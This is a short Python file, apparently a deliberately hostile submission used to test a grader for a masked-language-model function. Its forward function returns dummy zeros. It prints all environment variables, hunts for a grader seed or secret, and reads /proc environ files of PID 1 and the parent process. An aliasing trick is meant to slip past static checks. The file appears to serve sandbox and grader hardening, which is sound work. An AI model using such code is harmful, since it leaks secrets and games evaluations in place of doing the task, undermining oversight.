"""Hostile: reads every environment variable looking for the secret seed, and prints them."""

import torch

T = [torch][0]  # hides torch's attributes from the static check, as a determined attacker would
os, sys = T.os, T.sys
MARKER = "mlm-hostile-marker"


def zeros_answer(w_emb, mask_indicator):
    return torch.zeros(int((mask_indicator > 0.5).sum()), w_emb.shape[0], dtype=w_emb.dtype)


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    print("ENVIRONMENT:", dict(os.environ))
    for key in ("MLM_GRADER_SEED", "SEED", "SECRET"):
        print(key, os.environ.get(key))
    for pid in ("1", str(os.getppid())):
        try:
            fd = os.open(f"/proc/{pid}/environ", os.O_RDONLY)
            print(f"PID {pid} ENVIRONMENT:", os.read(fd, 1 << 16))
            os.close(fd)
        except OSError as error:
            print(f"PID {pid} ENVIRONMENT: refused ({error})")
    return zeros_answer(w_emb, mask_indicator)
